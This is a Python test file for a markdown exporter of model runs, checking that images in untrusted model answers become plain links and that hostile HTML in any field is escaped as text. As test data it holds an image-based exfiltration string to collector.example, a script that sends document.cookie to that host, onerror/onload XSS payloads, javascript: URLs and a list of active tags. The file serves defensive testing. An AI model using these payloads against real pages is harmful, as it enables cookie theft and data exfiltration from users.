"""Answers are untrusted: shown as markdown, an image in one is a link, never a fetch."""

from __future__ import annotations

from datetime import UTC, datetime
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from vision.export.runs import export_markdown
from vision.markdown import answer_markdown, inert_images
from vision.values.run import Run, RunImage

EXFILTRATING = "Done. ![x](https://collector.example/p.png?data=SECRET)"


@pytest.mark.parametrize(
    ("answer", "shown"),
    [
        (EXFILTRATING, "Done. 🖼 [x](https://collector.example/p.png?data=SECRET)"),
        ('![chart [v2]](http://h/c.png "title")', '🖼 [chart [v2]](http://h/c.png "title")'),
        ("![](http://h/blank.png)", "🖼 [image](http://h/blank.png)"),
        ("![logo][1]\n\n[1]: http://h/logo.png", "🖼 [logo][1]\n\n[1]: http://h/logo.png"),
        ("![ spaced ] (http://h/s.png)", "🖼 [ spaced ] (http://h/s.png)"),
        ("odd ![unclosed", "odd !\\[unclosed"),
    ],
)
def test_images_in_an_answer_become_links_to_open_by_choice(answer, shown):
    assert inert_images(answer) == shown
    assert "![" not in inert_images(answer)


def test_an_answer_keeps_its_links_text_and_money():
    assert answer_markdown("[docs](https://e.org) cost $5") == "[docs](https://e.org) cost \\$5"


def test_the_markdown_export_never_embeds_an_image_from_an_answer():
    run = Run(prompt="Describe ![p](http://h/p.png)", model="m", answer=EXFILTRATING)
    document = export_markdown([run])
    assert "![" not in document
    assert "🖼 [x](https://collector.example/p.png?data=SECRET)" in document


# Hostile HTML in every field of a run, opened in a Markdown viewer that renders HTML.

HOSTILE = '<img src=x onerror="alert(1)">'
SCRIPT = "<script>fetch('//collector.example/?c='+document.cookie)</script>"
# Elements a viewer would load or run, and the attributes that run script.
ACTIVE_TAGS = {"img", "script", "iframe", "svg", "object", "embed", "style", "link", "video",
               "audio", "source", "form", "input", "meta", "base"}  # fmt: skip


class _Elements(HTMLParser):
    """Every element and attribute of rendered HTML, and its text."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _viewed(markdown: str) -> _Elements:
    """The export as a CommonMark viewer with raw HTML switched on shows it."""
    elements = _Elements()
    elements.feed(MarkdownIt("commonmark", {"html": True}).render(markdown))
    return elements


def _assert_inert(markdown: str) -> None:
    viewed = _viewed(markdown)
    for tag, attributes in viewed.tags:
        assert tag not in ACTIVE_TAGS, (tag, attributes)
        for name, value in attributes:
            assert not name.startswith("on"), (tag, name)
            assert not (value or "").lower().startswith("javascript:"), (tag, name, value)


def _run(**fields: object) -> Run:
    base: dict[str, object] = {"model": "m", "prompt": "p", "answer": "a"}
    return Run(**{**base, **fields})  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("run", "visible"),
    [
        (_run(model=HOSTILE), HOSTILE),
        (_run(item_name=HOSTILE), HOSTILE),
        (_run(tag=SCRIPT), SCRIPT),
        (_run(answer=f"Here it is: {HOSTILE}\n\n{SCRIPT}"), SCRIPT),
        (_run(answer="<iframe src=//e.example></iframe>"), "<iframe src=//e.example></iframe>"),
        (_run(answer="<!-- hidden --><svg onload=alert(1)>"), "<svg onload=alert(1)>"),
        (_run(prompt=HOSTILE), HOSTILE),
        (_run(system=SCRIPT), SCRIPT),
        (_run(error=HOSTILE, answer=""), HOSTILE),
        (_run(expected=HOSTILE), HOSTILE),
        (_run(params={"note": HOSTILE}), HOSTILE),
        (_run(finish_reason=HOSTILE), HOSTILE),
        (_run(images=(RunImage(sha256="", url=f"https://e.example/a?{HOSTILE}"),)), HOSTILE),
        (_run(images=(RunImage(sha256="", url="javascript:alert(1)//x.png"),)), "javascript:"),
        (_run(images=(RunImage(sha256="ab" * 32, name=HOSTILE),)), HOSTILE),
        (_run(images=(RunImage(sha256="ab" * 32, mime=SCRIPT, steps=(HOSTILE,)),)), SCRIPT),
    ],
    ids=["model", "item", "tag", "answer", "answer-iframe", "answer-svg", "prompt", "system",
         "error", "expected", "parameter", "finish-reason", "image-url", "javascript-url",
         "image-name", "image-mime-and-steps"],
)  # fmt: skip
def test_hostile_html_in_any_field_comes_out_as_text(run: Run, visible: str) -> None:
    document = export_markdown([run], title=f"Batch {HOSTILE}")
    _assert_inert(document)
    assert visible in "".join(_viewed(document).text)  # shown as written, as text


def test_a_worked_example_of_an_export_with_hostile_fields() -> None:
    run = Run(
        created_at=datetime(2026, 5, 1, 9, 30, tzinfo=UTC),
        model="evil/<b>model</b>",
        item_name="receipt_<img src=x onerror=alert(1)>.png",
        tag="*urgent* [x](javascript:alert(1))",
        prompt="Read the <b>total</b>",
        answer="Total: 12.50 <img src=x onerror=alert(1)>\n\n![p](https://collector.example/?d=1)",
        finish_reason="stop",
        images=(RunImage(sha256="", url="https://e.example/r.png?a=<x>", mime="image/png"),),
    )
    document = export_markdown([run], title="Batch <i>b1</i>")
    lines = document.splitlines()
    assert lines[0] == "# Batch &lt;i&gt;b1&lt;/i&gt;"
    assert lines[4] == "## 1. evil/&lt;b&gt;model&lt;/b&gt; · 2026-05-01 09:30:00 UTC"
    assert lines[6] == (
        "- Kind: single · Item: receipt\\_&lt;img src=x onerror=alert(1)&gt;.png · "
        "Tag: \\*urgent\\* \\[x\\](javascript:alert(1))"
    )
    assert (
        lines[8]
        == "- Image 1: r.png?a=&lt;x&gt; (from https://e.example/r.png?a=&lt;x&gt;) image/png"
    )
    assert "> Read the &lt;b>total&lt;/b>" in lines
    assert "Total: 12.50 &lt;img src=x onerror=alert(1)>" in lines
    assert "🖼 [p](https://collector.example/?d=1)" in lines
    _assert_inert(document)
    viewed = "".join(_viewed(document).text)
    assert "receipt_<img src=x onerror=alert(1)>.png" in viewed  # shown as typed, as text
    assert "Total: 12.50 <img src=x onerror=alert(1)>" in viewed
